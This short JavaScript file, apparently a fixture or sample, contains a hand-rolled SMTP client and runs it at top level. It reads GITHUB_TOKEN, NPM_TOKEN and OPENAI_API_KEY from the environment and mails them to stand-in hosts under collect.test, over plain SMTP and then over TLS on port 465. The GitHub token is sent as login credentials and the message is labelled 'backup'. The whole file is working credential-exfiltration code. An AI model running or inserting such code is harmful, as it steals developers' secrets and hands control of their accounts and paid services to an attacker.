// SMTP: greeting, EHLO, AUTH PLAIN, MAIL, RCPT, DATA with the npm token in the
// body; then the same over implicit TLS (port 465), the greeting after the
// handshake, with the OpenAI key.
// A client that waits for the server: each step waits for a line that
// starts with |want| (or nothing, when null), then sends |send|.
function dialog(port, host, steps, done, secure) {
	const s = secure ? require('tls').connect({ port, host, servername: host }) : require('net').connect(port, host);
	let buf = '', i = 0;
	const next = () => {
		while (i < steps.length) {
			const [want, send] = steps[i];
			if (want != null) {
				const at = buf.split('\n').findIndex(l => l.startsWith(want));
				if (at < 0) return;
				buf = buf.split('\n').slice(at + 1).join('\n');
			}
			s.write(send);
			i++;
		}
		s.end();
	};
	s.on('data', d => { buf += d; next(); });
	s.on(secure ? 'secureConnect' : 'connect', () => { if (steps.length && steps[0][0] == null) next(); });
	s.on('error', () => {});
	s.on('close', () => done && done());
	setTimeout(() => s.destroy(), 4000).unref();
	return s;
}
const auth = Buffer.from('\0dev\0' + process.env.GITHUB_TOKEN).toString('base64');
dialog(587, 'mail.collect.test', [
	['220', 'EHLO dev.local\r\n'], ['250 ', 'AUTH PLAIN ' + auth + '\r\n'],
	['235', 'MAIL FROM:<dev@local>\r\n'], ['250', 'RCPT TO:<drop@collect.test>\r\n'],
	['250', 'DATA\r\n'], ['354', 'Subject: backup\r\n\r\nnpmrc: ' + process.env.NPM_TOKEN + '\r\n.\r\n'],
	['250', 'QUIT\r\n']], () => dialog(465, 'smtps.collect.test', [
	['220', 'EHLO dev.local\r\n'], ['250 ', 'MAIL FROM:<dev@local>\r\n'], ['250', 'RCPT TO:<drop@collect.test>\r\n'],
	['250', 'DATA\r\n'], ['354', 'Subject: keys\r\n\r\n' + process.env.OPENAI_API_KEY + '\r\n.\r\n'],
	['250', 'QUIT\r\n']], null, true));
